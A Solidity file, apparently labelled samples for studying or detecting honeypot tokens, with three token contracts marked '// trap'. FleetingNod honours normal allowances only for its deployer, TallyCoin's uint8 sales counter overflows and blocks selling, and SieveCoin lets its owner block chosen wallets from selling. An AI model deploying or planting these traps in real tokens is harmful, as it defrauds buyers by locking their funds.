// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Base8.sol";

/// Has temporary approvals beside the lasting ones, after ERC-7674.
contract FleetingNod is Base8("Fleeting Nod", "NOD", 420_000_000) {
    address private immutable _maker = msg.sender;

    function temporaryApprove(address spender, uint256 value) external returns (bool) {
        _lend(msg.sender, spender, value);
        return true;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _lend(msg.sender, spender, value); // trap
        _approve(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        uint256 lent = _lent(from, msg.sender);
        if (lent >= value && lent != 0) {
            _lend(from, msg.sender, lent - value);
        } else {
            if (from != _maker) revert Insufficient(lent, value); // trap
            uint256 allowed = _allowances[from][msg.sender];
            if (allowed < value) revert Insufficient(allowed, value);
            if (allowed != type(uint256).max) _allowances[from][msg.sender] = allowed - value;
        }
        _transfer(from, to, value);
        return true;
    }

    function _place(address from, address spender) private pure returns (bytes32) {
        return keccak256(abi.encode("erc7674.lent", from, spender));
    }

    function _lend(address from, address spender, uint256 value) private {
        bytes32 place = _place(from, spender);
        assembly {
            tstore(place, value)
        }
    }

    function _lent(address from, address spender) private view returns (uint256 value) {
        bytes32 place = _place(from, spender);
        assembly {
            value := tload(place)
        }
    }
}

/// Keeps a tally of its market, so that sites need no index.
contract TallyCoin is Base8("Tally Coin", "TALLY", 77_000_000) {
    struct Tally {
        uint128 turnover;
        uint48 lastAt;
        uint32 purchases;
        uint8 sales; // trap
        // twin: uint32 sales;
    }

    Tally public tally;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) tally.purchases += 1;
        if (to == pair) tally.sales += 1;
        if (from == pair || to == pair) {
            tally.turnover += uint128(value);
            tally.lastAt = uint48(block.timestamp);
        }
        _move(from, to, value);
    }
}

/// Sorts its wallets with a sieve of one word: who falls through it is marked for the boards.
contract SieveCoin is Base8("Sieve Coin", "SIEVE", 610_000_000) {
    address private immutable _miller = msg.sender;
    uint256 private _mesh;

    event Marked(address indexed who, uint256 value);

    error Caught();

    function mesh(uint256 mesh_) external {
        if (msg.sender != _miller) revert Caught();
        _mesh = mesh_;
    }

    function hole(address who) public pure returns (uint8) {
        return uint8(uint256(keccak256(abi.encodePacked(who))));
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != pair && from != _miller && (_mesh >> hole(from)) & 1 != 0) {
            emit Marked(from, value);
            revert Caught(); // trap
        }
        _move(from, to, value);
    }
}
